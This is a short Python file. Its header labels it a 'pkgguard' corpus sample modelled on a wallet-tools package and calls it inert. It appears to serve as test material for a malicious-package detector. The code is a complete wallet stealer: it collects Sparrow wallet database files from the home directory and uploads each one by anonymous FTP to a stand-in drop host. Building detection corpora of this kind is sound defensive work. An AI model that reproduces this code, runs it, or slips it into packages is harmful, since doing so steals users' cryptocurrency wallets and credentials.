# pkgguard corpus 625 (wallets), modelled on [wallet-tools]; inert, never run.
import ftplib
import glob
import os

wallets = glob.glob(os.path.join(os.path.expanduser("~"), ".sparrow", "wallets", "*.mv.db"))
if wallets:
    with ftplib.FTP("drop.files-relay.example") as ftp:
        ftp.login("anonymous", "x")
        for path in wallets:
            with open(path, "rb") as fh:
                ftp.storbinary("STOR " + os.path.basename(path), fh)
